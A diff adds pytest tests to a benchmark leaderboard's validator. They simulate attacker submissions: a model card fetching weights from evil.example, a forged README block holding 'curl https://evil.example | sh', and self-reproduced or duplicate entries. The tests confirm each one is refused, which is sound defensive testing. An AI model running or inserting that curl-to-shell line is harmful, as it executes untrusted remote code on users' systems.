@@ -1085,3 +1085,70 @@ def test_back_dated_entries_of_other_data_do_not_become_the_reference(root: Path
     assert code == 1
     assert "dataset.fingerprint is" in err
     assert listed.name in err
+
+
+# What an attacker tried.
+
+
+def test_a_card_of_a_listed_id_on_another_data_set_is_refused(root: Path) -> None:
+    """Or `load_model` of that id would fetch it."""
+    document = samples.card(A, "zzz", sources=[{"type": "url", "url": "https://evil.example/w.pt"}])
+    (root / "model_zoo" / "zzz").mkdir()
+    samples.write_json(root / "model_zoo" / "zzz" / f"{A}.json", document)
+    assert any(f"{A} is a model of shapes: give this one another id" in text for text in rules(root))
+
+
+@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
+@pytest.mark.parametrize("name", ["evil", "models", "tables"])
+def test_a_made_up_block_is_no_table(root: Path, page: str, name: str) -> None:
+    file = root / page
+    block = f"<!-- {name}: written by `segbench leaderboard`, do not edit -->\ncurl https://evil.example | sh\n"
+    file.write_text(f"{block}<!-- end of {name} -->\n{file.read_text('utf-8')}", "utf-8")
+    assert any(text.startswith(f"{page}: something else than its tables changed") for text in rules(root))
+
+
+def reproduction(path: Path, by: str = "bob") -> Path:
+    """Counts copied from the entry: nothing in the numbers tells."""
+    entry, stored = entries.read_entry(path), evidence.from_bytes(path.with_suffix(".parquet").read_bytes(), source="f")
+    groups = {key: group for key, group in stored.groups.items() if key[1] != "check"}
+    data = evidence.to_bytes(evidence.Evidence(groups, stored.metadata))
+    rows = additions.compare(stored, evidence.Evidence(groups, {}), additions.TOLERANCES["sea-v1"])
+    record = {
+        "schema_version": 1, "model": path.stem, "dataset": "shapes", "protocol": "sea-v1",
+        "entry_evidence_sha256": entry["evidence"]["sha256"], "by": by, "date": "2026-02-01", "seed": 1, "images": 6,
+        "radii_255": [4.0, 8.0, 12.0], "comparison": rows, "agrees": True,
+        "run": {"versions": {}, "device": "cpu", "seconds": 1.0},
+        "evidence": {"file": "x.parquet", "sha256": samples.sha256_bytes(data)},
+    }  # fmt: skip
+    folder = additions.folder_of(path, additions.REPRODUCED)
+    folder.mkdir()
+    (folder / "x.parquet").write_bytes(data)
+    samples.write_json(folder / "x.json", record)
+    return folder / "x.json"
+
+
+def test_nobody_reproduces_what_they_submit(root: Path, cli: Cli) -> None:
+    reproduction(add_model(root))
+    assert any("a reproduction comes in a pull request of its own" in text for text in rules(root))
+    commit(root)
+    git(root, "tag", "--force", "base")
+    reproduction(root / ENTRIES / f"{A}.json")
+    write_tables(root)
+    assert any("by is 'bob', but mallory submits it" in text for text in foreign(root, "mallory"))
+    options = ("validate", "--changed", "base", "--root", str(root), "--author")
+    assert cli(*options, "mallory")[0] == 1
+    code, _, err = cli(*options, "bob")
+    assert code == 0, err
+
+
+def test_the_same_model_under_a_second_name_is_refused(root: Path, cli: Cli) -> None:
+    entry, data = samples.build(A, 0.9)
+    entry["model"] |= {"id": NEW, "title": f"Model {NEW}"}
+    entry["evidence"]["file"] = f"{NEW}.parquet"
+    samples.write_json(root / ENTRIES / f"{NEW}.json", entry)
+    (root / ENTRIES / f"{NEW}.parquet").write_bytes(data)
+    samples.write_json(root / ZOO / f"{NEW}.json", samples.card(NEW, sha256=samples.weights_hash(A), sources=[]))
+    write_tables(root)
+    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
+    assert code == 1
+    assert f"{A} has the same weights: a model has one name" in err
